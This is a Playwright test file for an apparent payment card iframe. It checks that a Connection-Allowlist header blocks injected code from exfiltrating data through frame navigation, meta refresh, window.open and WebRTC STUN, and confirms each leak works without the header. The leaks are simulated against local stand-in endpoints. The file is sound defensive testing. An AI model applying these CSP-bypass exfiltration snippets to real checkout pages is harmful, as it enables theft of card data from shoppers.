/**
 * threat-model 1.8: hostile code that already runs in the frame's document can't send anything out by the ways that a
 * Content-Security-Policy does not cover. Each way is shown to work without the header, so that the test can fail.
 */
import { createSocket } from 'node:dgram';
import type { Page } from 'playwright/test';
import { CARD, KNOWN_BUYER } from '../support/checkout-page.ts';
import { expect, test } from '../support/fixtures.ts';

const HEADER = 'connection-allowlist';

/** The first Chromium that knows the header. */
const SINCE = 152;

test.skip(
  ({ browser }) => Number.parseInt(browser.version(), 10) < SINCE,
  `needs Chromium ${SINCE}, the first that knows Connection-Allowlist`,
);

const withoutHeader = (page: Page) =>
  page.route(/\/card-form\/.*frame/, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers[HEADER];
    await route.fulfill({ response, headers });
  });

/** How the code sends out the typed data, and how the test sees that the browser has finished. */
const WAYS = {
  'a navigation of the frame': (url: string) => {
    location.href = url;
  },
  'a refresh': (url: string) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
  },
  'a window': (url: string) => {
    window.open(url);
  },
} as const;

for (const { title, tag, ways } of [
  { title: 'a navigation of the frame', tag: [], ways: ['a navigation of the frame'] },
  { title: 'a refresh or a window', tag: ['@thorough'], ways: ['a refresh', 'a window'] },
] as const) {
  test(`nothing leaves by ${title}; without the header, data leaves`, { tag: [...tag] }, async ({
    context,
    open,
    page,
    service,
    site,
    watch,
  }) => {
    watch.expect(/ERR_|blocked|Unsafe attempt/i);
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    /** Runs the code in the frame and returns the window that it opened. */
    const steal = async (way: keyof typeof WAYS) => {
      const checkout = await open(await service.createIntent());
      await checkout.ready();
      const popup = way === 'a window' ? page.waitForEvent('popup') : null;
      const [, frame] = page.frames();
      const stolen = site.put('/stolen', 'x');
      await frame?.evaluate(WAYS[way], `${stolen}?4242`).catch(() => {}); // its document may be gone by then
      // Waits without the header too: the test must not end before the window exists.
      return { checkout, opened: await popup };
    };
    for (const way of ways) {
      const { checkout, opened } = await steal(way);
      if (opened) await expect.poll(() => opened.url()).toMatch(/^chrome-error:/);
      else expect(await checkout.hears('loaderror')).toMatchObject({ reason: 'blocked' });
      expect(asked.join(), way).not.toContain('/stolen');
      expect(site.requests, way).toEqual([]);
    }
    await withoutHeader(page);
    for (const way of ways) {
      asked.splice(0);
      await steal(way);
      await expect.poll(() => asked.join(), way).toContain('/stolen?4242');
    }
  });
}

for (const isProtected of [true, false]) {
  test(`${isProtected ? 'nothing leaves' : 'without the header, data leaves'} by WebRTC`, {
    tag: '@thorough',
  }, async ({ open, page, service }) => {
    if (!isProtected) await withoutHeader(page);
    const stun = createSocket('udp4');
    let packets = 0;
    stun.on('message', () => {
      packets += 1;
    });
    await new Promise<void>((resolve) => {
      stun.bind(0, '127.0.0.1', resolve);
    });
    await (await open(await service.createIntent())).ready();
    const [, frame] = page.frames();
    const gathered = frame?.evaluate(async (urls) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
      connection.createDataChannel('x');
      const done = new Promise((resolve) => {
        connection.onicegatheringstatechange = () =>
          connection.iceGatheringState === 'complete' && resolve(true);
      });
      await connection.setLocalDescription(await connection.createOffer());
      await done;
    }, `stun:127.0.0.1:${stun.address().port}`);
    if (isProtected) {
      await gathered;
      expect(packets).toBe(0);
    } else {
      gathered?.catch(() => {}); // continues until someone answers
      await expect.poll(() => packets).toBeGreaterThan(0);
    }
    stun.close();
  });
}

test("docs/going-live: a shop's page with its own list loads the form and pays, and can send nothing elsewhere", {
  tag: '@thorough',
}, async ({ open, page, service, site, watch }) => {
  watch.expect(/ERR_|blocked|Failed to fetch/i);
  const checkout = await open(await service.createIntent(), {
    headers: { 'Connection-Allowlist': `(response-origin "${service.url}/partner/v1/*")` },
    options: { defaultValues: KNOWN_BUYER },
  });
  await checkout.fillCard(CARD.visa);
  await checkout.pay();
  await expect(checkout.outcome).toHaveText('Payment received');
  const sent = await page.evaluate(
    (url) =>
      fetch(url, { mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    site.put('/stolen', 'x'),
  );
  expect(sent).toBe(false);
  expect(site.requests).toEqual([]);
});
